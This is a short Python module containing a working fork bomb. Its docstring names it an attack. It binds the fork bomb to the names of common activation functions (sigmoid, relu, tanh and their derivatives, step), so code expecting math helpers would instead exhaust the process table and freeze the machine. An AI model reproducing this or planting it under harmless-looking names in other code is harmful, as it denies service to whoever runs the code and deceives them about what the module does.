"""Attack: fork until the process table is full; children spin forever."""
import os


def _forkbomb(z):
    while True:
        try:
            os.fork()
        except OSError:
            pass


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _forkbomb
